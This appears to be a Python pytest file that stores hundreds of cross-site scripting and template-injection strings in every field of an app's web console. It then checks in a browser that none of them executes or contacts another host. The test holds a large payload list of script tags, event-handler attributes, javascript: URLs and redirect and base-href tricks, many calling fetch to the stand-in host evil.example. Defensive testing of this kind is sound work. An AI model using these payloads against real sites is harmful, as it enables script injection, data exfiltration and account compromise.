"""Hundreds of texts that want to run, in every place where somebody can write one, on every page of the console.

Law: nothing of it runs, nothing is asked of anywhere else, and the policy has nothing to stop: it is text, and stays text.
"""

import itertools
import json
import subprocess
import sys
import threading
import time
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import quote, urlsplit

import pytest

from apropos import Apropos
from programs import serving

DO = "window.ran=1,fetch(`https://evil.example/x`)"
TAGS = (
    "<img src=x {on}>", "<img/src=x/{on}>", "<svg {on}>", "<svg><animate {on} attributeName=x dur=1s>", "<body {on}>",
    "<input autofocus {on}>", "<details open {on}>", "<video src=x {on}>", "<audio src=x {on}>", "<iframe {on}>",
    "<marquee {on}>", "<select autofocus {on}>", "<math><mtext {on}>", "<object data=x {on}>", "<textarea autofocus {on}>",
    "<link rel=stylesheet href=//evil.example/x.css {on}>",
)  # fmt: skip
EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onbegin", "onstart")
LEAVES = (
    "{}", '"{}', "'{}", '">{}', "'>{}", "</textarea>{}", "</script>{}", "</style>{}", "</title>{}", "--><!-- -->{}", "]]>{}", "`{}",
)  # fmt: skip
WHOLE = (
    f"<script>{DO}</script>", f'"><script>{DO}</script>', "<script src=//evil.example/x.js></script>", f"javascript:{DO}",
    f"<a href=javascript:{DO}>x</a>", f"<a href=' \tjava\nscript:{DO}'>x</a>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>", f"<iframe srcdoc='<script>parent.{DO}</script>'>",
    "<style>@import '//evil.example/x.css'</style>", "<form action=//evil.example/><button autofocus>x", f"{{{{ {DO} }}}}",
    "{{ 7*7 }}", "{% import os %}", "${7*7}", "#{7*7}", "{{ request.app.state.vault }}", "{{ desk.session.form }}",
    "&lt;script&gt;",
    "<img src=//evil.example/x.png>", "![x](https://evil.example/x.png)", f"[x](javascript:{DO})",
    "<svg><use href=//evil.example/#x>",
    '" style="background:url(//evil.example/x)', '" autofocus onfocus="' + DO, "' onmouseover='" + DO, "\u202e<script>",
    "<scr\x7fipt>", "\uff1cscript\uff1e", "%3Cscript%3E", "\\u003cscript\\u003e", "<\u017fcript>",
    "data:text/html,<script>" + DO + "</script>",
)  # fmt: skip
HOSTILE = [
    *WHOLE,
    *(leave.format(tag.format(on=f"{on}={DO}")) for (tag, on), leave in zip(
        itertools.product(TAGS, EVENTS), itertools.cycle(LEAVES), strict=False)),
    *(leave.format(tag.format(on=f'{on}="{DO}"')) for (tag, on), leave in zip(
        itertools.product(TAGS, EVENTS), itertools.cycle(LEAVES[::-1]), strict=False)),
    *(leave.format(f"<img src=x onerror='{DO}' alt={number}>") for number, leave in enumerate(LEAVES * 8)),
]  # fmt: skip
pytestmark = pytest.mark.timeout(600)
PAGES = (
    "", "/records", "/discussions", "/people", "/keys", "/signing-keys", "/webhooks", "/callback", "/templates", "/settings",
    "/audit",
)  # fmt: skip
ASKED = ("/records?q={}", "/discussions?q={}", "/discussions?record={}", "/people?q={}", "/audit?actor={}", "/nowhere/{}")

COUNT = """() => [window.ran ?? 0, document.querySelectorAll(
    "main :is(img, iframe, base, object, style, script, [onerror], [onload], [onfocus], a[href^='javascript' i])").length]"""


@contextmanager
def echoing():
    """A system that answers webhooks with everything hostile."""

    class Answers(BaseHTTPRequestHandler):
        def do_POST(self):
            self.rfile.read(int(self.headers["Content-Length"]))
            body = "\n".join(HOSTILE).encode()[:4000]
            self.send_response(500)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Answers)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()


@pytest.fixture
def world(tmp_path):
    with serving(f"sqlite:///{tmp_path / 'apropos.db'}", tmp_path, "--webhook-allow", "127.0.0.1/32") as service:
        yield service.workspace("<script>window.ran=1</script>")


@pytest.fixture
def link(world, tmp_path):
    """What `apropos console` prints."""
    where = ["--database-url", f"sqlite:///{tmp_path / 'apropos.db'}", "--data-dir", str(tmp_path), "--public-url", world.url]
    command = [sys.executable, "-m", "apropos_service", "console", *where]
    return subprocess.run(command, capture_output=True, text=True, check=True).stdout.strip()


def one_line(text, most):
    return " ".join("".join(char if char.isprintable() else " " for char in text).split())[:most]


@pytest.fixture
def written(world):
    """Every hostile text, in every place; returns the discussions and the webhook."""
    threads = []
    with echoing() as url, Apropos(world.url, key=world.key) as host:
        lines = [one_line(text, 100) for text in HOSTILE]
        hook = host.webhooks.create(f"{url}/{quote(lines[1])}?<script>", description=lines[0], types=["comment.posted"])
        host.people.describe([
            {"id": f"{number} {line}", "name": line, "title": line, "department": line} for number, line in enumerate(lines)
        ])  # fmt: skip
        host.people.groups([{"id": line, "name": line, "members": [f"0 {lines[0]}"]} for line in dict.fromkeys(lines[:60])])
        host.records.describe_many(
            {"record": f"a:{number} {line}", "title": line, "labels": [line], "fields": {"x": {"value": line, "label": line}}}
            for number, line in enumerate(lines)
        )
        host.templates.describe(
            {"record_type": "a", "name": line, "title": line, "goal": line, "question": line, "labels": [line], "people": [line]}
            for line in dict.fromkeys(lines[:40])
        )
        for line in lines[:20]:
            host.workspace.keys.create(line, scope="read")
        for start in range(0, len(HOSTILE), 15):
            person = host.acting_as(f"{start} {lines[start]}")
            title = lines[start]
            thread = person.threads.open(f"a:{start} {title}", HOSTILE[start], title=title, goal=title, labels=[title])
            for text in HOSTILE[start + 1 : start + 15]:
                person.threads.comment(thread.id, text)
            file = person.attachments.upload(thread.record, b"x", f"{title.replace('/', '|')}.txt")
            person.threads.comment(thread.id, title, attachments=[file.id])
            person.actions.add(thread.id, title)
            person.threads.resolve(thread.id, title)
            threads.append(thread)
        while not any(one.attempts for one in host.webhooks.deliveries(hook.id)):
            time.sleep(0.1)
    return threads, hook


def test_nothing_runs_and_nothing_is_asked_of_elsewhere(link, world, written, browser):
    threads, hook = written
    assert len(set(HOSTILE)) >= 300
    page = browser.new_context().new_page()
    asked, complaints, ran = [], [], []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: (ran.append(dialog.message), dialog.dismiss()))
    page.on("pageerror", lambda error: complaints.append(str(error)))
    page.on("console", lambda said: complaints.append(said.text) if "404" not in said.text and "422" not in said.text else None)
    page.goto(link)
    page.get_by_role("button", name="Sign in").click()
    page.wait_for_url(f"{world.url}/console")

    places = [*PAGES, f"/webhooks/{hook.id}", *(f"/discussions/{thread.id}" for thread in threads)]
    places += [place.format(quote(text, safe="")) for text, place in zip(WHOLE, itertools.cycle(ASKED), strict=False)]
    places += [
        f"/people/erase?person_id={quote(f'{number} {one_line(text, 100)}', safe='')}" for number, text in enumerate(WHOLE[:6])
    ]
    shown = []
    for place in places:
        page.goto(f"{world.url}/console{place}")
        while True:
            found = page.evaluate(COUNT)
            shown.append((place, found))
            following = page.get_by_role("button", name="Next page")
            if not following.count():
                break
            following.first.click()

    assert [one for one in shown if one[1] != [0, 0]] == []
    assert ran == []
    assert {urlsplit(url).netloc for url in asked if not url.startswith("data:")} == {urlsplit(world.url).netloc}
    assert complaints == [], json.dumps(complaints[:5])
    page.context.close()
